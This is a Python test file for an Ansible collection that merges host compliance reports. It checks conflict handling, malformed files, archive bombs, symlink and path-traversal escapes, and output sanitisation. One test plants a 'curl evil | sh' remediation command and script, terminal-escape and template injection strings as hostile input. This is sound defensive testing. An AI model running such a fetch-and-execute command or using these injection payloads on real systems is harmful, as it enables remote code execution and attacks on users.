# Copyright: threadwise.smt contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Files of several checks as one: which word on a host counts, in whatever order they are read, and files that lie."""

from __future__ import annotations

import datetime
import gzip
import io
import itertools
import json
import os
import re
import tarfile
import zipfile

import pytest
from ansible_collections.threadwise.smt.plugins.plugin_utils._keep.files import registry
from ansible_collections.threadwise.smt.plugins.plugin_utils._keep.files.base import Check
from ansible_collections.threadwise.smt.plugins.plugin_utils._keep.fleet import compliance_report
from ansible_collections.threadwise.smt.plugins.plugin_utils._keep.fleet.remediation import Call
from ansible_collections.threadwise.smt.plugins.plugin_utils._keep.sources import base, files
from scraped_fleet import drifted, found

NOW = datetime.datetime(2026, 11, 28, 12, tzinfo=datetime.UTC)
MINUTE = datetime.timedelta(minutes=1)


def document(hosts=None, ago=30, error=None):
    """A file of a check, as it is written: host -> what was found."""
    judged = sorted((hosts or {}).items())
    return registry.formats()["json"].make(Check(judged, NOW - ago * MINUTE, call=Call(error=error)))


def asked(paths, hosts, others=(), **options):
    options = {"files": [str(path) for path in paths], "max_age": None, **options}
    return base.Asked(sorted(hosts), others, NOW, options, lambda *_words: None, lambda _name: None)


def read(paths, hosts="abcdef", **options):
    return files.SOURCE.read(asked(paths, hosts, **options))


def statuses(answer):
    return {host: result.status for host, result in answer.judged}


def write(tmp_path, **named):
    for name, content in named.items():
        (tmp_path / f"{name}.json").write_text(content)
    return [tmp_path / f"{name}.json" for name in named]


RESTS_ON = {"kernels": ["6.1"], "mitigations": [["l1tf", "pte"]], "boost": [True], "first_day": "2026-01-01"}
RESTS_ON |= {"last_day": None, "microcode": [], "collection_versions": [], "governors": []}
RECHECK = {"host": "h", "run": "r", "age_days": 3, "state": "holds", **dict.fromkeys(["day", "kernel", "mitigations"])}


def test_slices_are_one_check_with_all_that_each_says_of_its_hosts(tmp_path):
    aspect = {"status": "drifted", "reasons": ["x", "y"], "blocked_by": "no method"}
    decision = {"stale": ["another kernel"], "measure": ["a"], "rests_on": RESTS_ON, "rechecks": [RECHECK]}
    waiver = {"until": "2027-03-01", "state": "valid", "days_left": 93, "reason": "licence", "owner": "jo"}
    more = {"services": ["nginx has 8"], "pending_rollback": {"since": None, "back_to": None}, "reboot_pending": True}
    full = found("waived", "running: x", running=aspect, waiver=waiver, decided_by="RUN", decision=decision, **more)
    others = {"d": found("unreachable", "no route"), "e": found("bad_policy", "none is set")}
    one, two, three = {"a": full, "b": drifted()}, {"c": found("compliant")}, others
    answer = read(write(tmp_path, one=document(one), two=document(two), three=document(three)), "abcde")
    of_hosts = {"a": "waived", "b": "drifted", "c": "compliant", "d": "unreachable", "e": "bad_policy"}
    assert statuses(answer) == of_hosts
    # Commands of others are not passed on, and what they would change is not known here.
    own = {"running": {**aspect, "blocked_by": None}, "change": None, "checked": "2026-11-28T11:30:00Z"}
    assert dict(answer.judged)["a"].described() == {**full.described(), **own, "decision": {**decision, "measure": []}}
    assert (answer.strangers, list(answer.notes)) == ([], [])
    for made in registry.formats().values():
        assert made.make(Check(answer.judged, NOW))


def test_the_order_and_the_number_of_files_decide_nothing(tmp_path):
    slices = write(
        tmp_path,
        one=document({"a": found("compliant"), "b": drifted()}),
        two=document({"b": found("compliant"), "c": found("unreachable")}, ago=32),
        three=document({"c": found("compliant"), "a": drifted()}, ago=300),
        empty=document({}),
        failed=document(error="no host takes part"),
    )
    (tmp_path / "zz").mkdir()
    for number, path in enumerate(slices):
        (tmp_path / "zz" / f"{number}.json").write_text(path.read_text())
    answers = [read(paths) for paths in (slices, slices[::-1], [*slices, tmp_path / "zz"], slices[2:] + slices)]
    assert len({repr((sorted(one.judged), one.notes)) for one in answers}) == 1
    # In one directory and in archives they are the same.
    with zipfile.ZipFile(tmp_path / "all.zip", "w") as archive:
        for path in slices:
            archive.write(path, f"../../{path.name}")
    with tarfile.open(tmp_path / "all.tar.gz", "w:gz") as archive:
        for path in reversed(slices):
            archive.add(path, f"/x/{path.name}")
    expected = {"a": "compliant", "b": "drifted", "c": "unreachable", "d": "unknown", "e": "unknown", "f": "unknown"}
    for place in (tmp_path, tmp_path / "all.zip", tmp_path / "all.tar.gz"):
        assert statuses(read([place])) == expected
    assert not (tmp_path.parent / "one.json").exists()
    # Also of words of the same time.
    at = [NOW - ago * MINUTE for ago in (30, 30, 30, 35, 300)]
    said = [found("compliant"), drifted(), drifted(), found("unreachable", "no route"), found("waived")]
    words = [base.Word("a", when, one, f"file {number}") for number, (when, one) in enumerate(zip(at, said))]
    answers = [base.judged(asked([], "a"), order, lambda _host: None, None) for order in itertools.permutations(words)]
    assert all(one == answers[0] for one in answers)
    ((_host, result),) = answers[0]
    assert result.status == "drifted" and "file 1 says drifted" in result.sentence


def test_which_word_counts_and_that_those_of_about_the_same_time_which_differ_are_named_with_their_files(tmp_path):
    compliant, missed, early = found("compliant"), found("unreachable"), "2026-11-28T09:00:00Z"
    for one, ago, two, ago_two, status in (
        # The host's own time counts before that of the file.
        (found("compliant", checked=early), 1, drifted(), 60, "drifted"),
        # Who could not reach a host says nothing against one who could about then.
        (missed, 1, drifted(), 5, "drifted"),
        (missed, 1, drifted(), 90, "unreachable"),
        # What has not come is no latest word, and what is too old is silence where that is asked for.
        (compliant, -600, drifted(), 30, "drifted"),
        (compliant, -600, compliant, -600, "unknown"),
        (compliant, 121, compliant, 122, "compliant"),
        *((compliant, 30, drifted(), 30 + apart, "compliant" if apart else "drifted") for apart in (0, 9, 11)),
    ):
        paths = write(tmp_path, one=document({"a": one}, ago), two=document({"a": two}, ago_two))
        answer = read(paths, "a")
        assert statuses(answer) == {"a": status}, (one.status, ago, two.status, ago_two)
        assert statuses(read(paths, "a", max_age=2.0)) == {"a": "silent" if ago == 121 else status}
        for word in (f"{paths[0]} says compliant", f"{paths[1]} says drifted", "contradict") * (ago == 30):
            assert (word in answer.judged[0][1].sentence) is (ago_two < 41)


def test_an_empty_slice_is_no_failure_and_a_failed_call_and_a_stranger_are_said(tmp_path):
    paths = write(tmp_path, one=document(dict.fromkeys("abx", found("compliant"))), two=document({}))
    answer = read(paths, "a", others=["b"])
    assert statuses(answer) == {"a": "compliant"} and answer.strangers == ["x"] and list(answer.notes) == []
    paths += write(tmp_path, three=document(error="no host matches web"))
    answer = read(paths, "a")
    assert statuses(answer) == {"a": "compliant"}
    assert list(answer.notes) == [f"{paths[2]} checked no host: no host matches web"]
    # Whose hosts nobody else checked is not known.
    ((_host, result),) = read(paths[2:], "a").judged
    assert result.status == "unknown" and "1 file could not be used" in result.sentence


def test_files_of_the_version_before_are_read(tmp_path):
    content = {**json.loads(document({"a": drifted()})), "schema_version": 2}
    for of, names in (
        (content["counts"], ("silent", "unknown_to_server")),
        (*content["hosts"], ("checked", "services")),
    ):
        for name in names:
            del of[name]
    assert statuses(read(write(tmp_path, old=json.dumps(content)), "a")) == {"a": "drifted"}


OF_ONE = json.loads(document({"a": found("compliant")}))
OTHER = [("schema", "threadwise.smt/report"), ("schema_version", 4), ("at", "2026-02-30T00:00:00Z")]
OF_HOST = [("status", "fine"), ("host", 7), ("checked", "2026-13-01T00:00:00Z"), ("scope", "{{ 7 * 7 }}")]
BROKEN = {"half": json.dumps(OF_ONE)[:100], "list": "[]", "deep": "[" * 100_000, "no text": "\udcff\udcfe"}
BROKEN |= {name: json.dumps({**OF_ONE, name: value}) for name, value in OTHER}
BROKEN |= {name: json.dumps({**OF_ONE, "hosts": [{**OF_ONE["hosts"][0], name: value}]}) for name, value in OF_HOST}


@pytest.mark.parametrize("kind", BROKEN)
def test_a_file_that_is_none_is_named_and_the_others_count(kind, tmp_path):
    path = tmp_path / "broken.json"
    path.write_text(BROKEN[kind], errors="surrogateescape")
    answer = read([path, *write(tmp_path, good=document({"a": drifted()}))], "a")
    (note,) = answer.notes
    assert statuses(answer) == {"a": "drifted"} and note.startswith(f"{path} does not count: ")
    assert note.isprintable() and len(note) < 600


def test_what_a_file_says_is_shown_safely_and_its_commands_are_not_passed_on(tmp_path):
    evil, content = "\x1b[31m\u202e<script>alert(1)</script>\n{{ 7 * 7 }}", json.loads(document({"a": drifted()}))
    content["hosts"][0].update(sentence=evil, wanted="x", services=[evil], remediation="curl evil | sh")
    content["hosts"].append(dict(content["hosts"][0], host="x\u202ey"))
    answer = read(write(tmp_path, evil=json.dumps(content)), "a")
    page, text = (registry.formats()[name].make(Check(answer.judged, NOW)) for name in ("page", "json"))
    table = "\n".join(compliance_report.table(answer.judged))
    for one in (page, text, table, *answer.strangers):
        assert "\x1b" not in one and "\u202e" not in one and "curl evil" not in one
    assert "<script>alert" not in page and "49" not in table
    assert dict(answer.judged)["a"].sentence.isprintable()


def packed_zip(members, how=zipfile.ZIP_DEFLATED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", how) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return stream.getvalue()


def packed_tar(members, **headers):
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz", format=tarfile.PAX_FORMAT) as archive:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size, info.pax_headers = len(content), headers
            archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


GOOD = document({"a": drifted()})
SIZE = 20_000


def padded(content, size):
    return content[:-1] + " " * (size - len(content)) + content[-1]


def with_headers(archive, value, *places):
    """A zip archive with other bytes in its two headers of a member."""
    content = bytearray(archive)
    for sign, at in zip((b"PK\x03\x04", files._ZIP_ENTRY), places):
        content[content.index(sign) + at : content.index(sign) + at + len(value)] = value
    return bytes(content)


PADDED, STORED = packed_zip([("x.json", padded(GOOD, SIZE))]), packed_zip([("a.json", GOOD)], zipfile.ZIP_STORED)
MANY = [(f"{one}.json", padded(document({"b": drifted()}, ago=one), SIZE).encode()) for one in range(9)]
TOO_LARGE, NO_ARCHIVE = "larger than|more than", "cannot be unpacked"
# Each is small, and refused by itself, whatever else there is.
BOMBS = {
    "many members": ("x.zip", packed_zip(MANY), TOO_LARGE),
    "many members, tar": ("x.tar.gz", packed_tar(MANY), TOO_LARGE),
    "a large member": ("x.zip", packed_zip([("x.json", b" " * 10 * SIZE)]), TOO_LARGE),
    "a header that lies": ("x.zip", with_headers(PADDED, (100).to_bytes(4, "little"), 22, 24), NO_ARCHIVE),
    "a header of tar": ("x.tgz", packed_tar([("x.json", b"")], comment="x" * 3 * SIZE), TOO_LARGE),
    "a bomb of gzip": ("x.tgz", packed_tar([("rest.bin", b"\0" * 10 * SIZE)]), TOO_LARGE),
    "more members than files": ("x.zip", packed_zip([(f"{one}.txt", "") for one in range(99)]), TOO_LARGE),
    "entries that are none": ("x.zip", files._ZIP_ENTRY * 99, TOO_LARGE),
    "a large file": ("x.json", padded(GOOD, 3 * SIZE).encode(), "larger than"),
    "no zip": ("x.zip", b"PK\x03\x04nonsense", NO_ARCHIVE),
    "no gzip": ("x.tar.gz", b"\x1f\x8bnonsense", NO_ARCHIVE),
    "no tar": ("x.tgz", gzip.compress(b"x" * 5000, mtime=0), NO_ARCHIVE),
    "another compression": ("x.zip", packed_zip([("x.json", GOOD)], zipfile.ZIP_LZMA), "another way"),
    "a secret": ("x.zip", with_headers(STORED, b"\1", 6, 8), NO_ARCHIVE),
}


@pytest.mark.parametrize("kind", BOMBS)
def test_a_bomb_or_what_is_no_archive_is_refused_by_name_and_the_others_count(kind, tmp_path, monkeypatch):
    for limit, value in {"MAX_FILE": 2 * SIZE, "MAX_ALL": 3 * SIZE, "MAX_FILES": 20}.items():
        monkeypatch.setattr(files, limit, value)
    name, content, reason = BOMBS[kind]
    # Some are read before the good one, and some after.
    for number in range(4):
        folder = tmp_path / f"{'0x'[number % 2]}{number}"
        folder.mkdir()
        (folder / name).write_bytes(content)
    write(tmp_path, y=GOOD)
    answer = read([tmp_path], "ab")
    assert statuses(answer) == {"a": "drifted", "b": "unknown"}
    named = {f"{tmp_path}/{folder}/{name}" for folder in ("00", "x1", "02", "x3")}
    assert {note.partition(" does not count: ")[0] for note in answer.notes} == named
    assert all(re.search(reason, note) for note in answer.notes)


@pytest.mark.parametrize("limit", ["MAX_FILE", "MAX_FILES"])
def test_files_of_a_host_take_no_room_from_others(limit, tmp_path, monkeypatch):
    monkeypatch.setattr(files, limit, 3 * SIZE if limit == "MAX_FILE" else 3)
    (tmp_path / "b").mkdir()
    write(tmp_path / "b", **{f"f{one}": padded(document({"b": drifted()}, ago=one), SIZE) for one in range(6)})
    write(tmp_path, a=GOOD, c=GOOD.replace('"a"', '"c"'), of_controller=document({"d": drifted()}))
    answer = read([tmp_path], "abcd")
    assert set(statuses(answer).values()) == {"drifted"} and len(answer.notes) == 3
    assert all(f"{tmp_path}/b/f" in note and "b's files are more than" in note for note in answer.notes)


def test_folders_that_cannot_be_read_are_named_and_the_others_count(tmp_path, monkeypatch):
    deep = tmp_path / "/".join("x" * (files.MAX_DEPTH + 2))
    for folder in (deep, tmp_path / "0"):
        folder.mkdir(parents=True)
        write(folder, lost=GOOD.replace('"a"', '"b"'))
    below = files.folders.Folder.below

    def refused(folder, name):
        if name == "0":
            raise PermissionError(13, "Permission denied")
        return below(folder, name)

    # Root, as which these tests may run, can read all folders.
    monkeypatch.setattr(files.folders.Folder, "below", refused)
    answer = read([tmp_path, *write(tmp_path, good=GOOD)], "ab")
    assert statuses(answer) == {"a": "drifted", "b": "unknown"}
    denied, too_deep = answer.notes
    assert denied.startswith(f"{tmp_path}/0 does not count") and f"{files.MAX_DEPTH} directories" in too_deep


@pytest.mark.parametrize(
    ("name", "is_listed"),
    [("a.json", True), ("a/b.json", False), ("pull-a.zip", False), ("a/x/b.zip", True), ("all.zip", False)],
)
def test_what_a_host_says_of_others_makes_none_better_and_is_named(name, is_listed, tmp_path):
    said = document({**dict.fromkeys("abc", found("compliant")), "d": drifted()}, ago=1)
    path = tmp_path / "checks" / name
    path.parent.mkdir(parents=True)
    member = "a.json" if name == "all.zip" else "b.json"
    path.write_bytes(packed_zip([(member, said)]) if name.endswith(".zip") else said.encode())
    (own,) = write(tmp_path, b=document({"b": drifted()}))
    answer = read([path if is_listed else tmp_path / "checks", own], "abcd")
    # The worse of what it says counts.
    assert statuses(answer) == {"a": "compliant", "b": "drifted", "c": "unknown", "d": "drifted"}
    for host, result in answer.judged:
        assert ("says compliant at" in result.sentence and name in result.sentence) == (host in "bc")
    assert list(answer.notes) == ["Hosts that speak of others: a (of b, c, d)."]
    # A controller, whose file has no host's name, is trusted with all of them.
    (path,) = write(tmp_path, of_controller=said)
    assert statuses(read([path, own], "abcd")) == {**dict.fromkeys("abc", "compliant"), "d": "drifted"}


def test_a_copy_in_the_folder_of_another_host_takes_no_word_away(tmp_path):
    said = document({"a": found("compliant"), "b": found("compliant")})
    for number, names in enumerate((("a/b.json", "b.json"), ("a.json", "b/a.json"))):
        for path in (tmp_path / str(number) / name for name in names):
            path.parent.mkdir(exist_ok=True, parents=True)
            path.write_text(said)
        assert statuses(read([tmp_path / str(number)], "ab")) == {"a": "compliant", "b": "compliant"}


def test_nothing_leads_out_of_a_directory_or_an_archive_or_blocks_in_it(tmp_path):
    inside, outside = tmp_path / "inside", tmp_path / "outside"
    inside.mkdir(), outside.mkdir()
    write(outside, secret=document({"a": drifted()}))
    (good,) = write(inside, good=document({"b": drifted()}))
    (inside / "link").symlink_to(outside)
    (inside / "link.json").symlink_to(outside / "secret.json")
    os.mkfifo(inside / "fifo.json")
    (inside / "deep.json").mkdir()
    answer = read([inside], "ab")
    assert statuses(answer) == {"a": "unknown", "b": "drifted"}
    named = [note.partition(" does not count: ")[0].rpartition("/")[2] for note in answer.notes]
    assert named == ["deep.json", "fifo.json", "link.json"]
    # A path that the user wrote may be a link.
    (tmp_path / "mine").symlink_to(outside)
    assert statuses(read([tmp_path / "mine"], "a")) == {"a": "drifted"}
    with tarfile.open(tmp_path / "all.tar.gz", mode="w:gz") as archive:
        for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE, tarfile.DIRTYPE):
            info = tarfile.TarInfo("x.json")
            info.type, info.linkname = kind, "/etc/passwd"
            archive.addfile(info)
        archive.add(good)
    answer = read([tmp_path / "all.tar.gz"], "b")
    assert statuses(answer) == {"b": "drifted"} and list(answer.notes) == []


def test_without_any_file_there_is_no_answer(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "one").mkdir()
    (tmp_path / "one/bad.json").write_text("[]")
    (tmp_path / "a.txt").write_text(GOOD)
    for paths, why in (([], ""), (["/nonexistent/x.json"], "x.json"), (["one"], "bad.json"), (["a.txt"], "a.txt does")):
        with pytest.raises(base.SourceError, match=f"smt_compliance_files.*{why}"):
            read(paths, "a")


def test_the_metrics_of_merged_hosts_have_the_time_of_their_word(tmp_path):
    paths = write(tmp_path, one=document({"a": found("compliant")}, ago=200))
    text = registry.formats()["metrics"].make(Check(read(paths, "ac", max_age=1.0).judged, NOW))
    at = int((NOW - 200 * MINUTE).timestamp())
    assert f'checked_timestamp_seconds{{host="a",hardware_class="x86_64-2s64c128t-split"}} {at}\n' in text
    # A controller that did not hear of a host has no word on it that a server could take for one.
    assert 'status="silent"} 1' in text and 'threadwise_smt_status_timestamp_seconds{host="a"' not in text
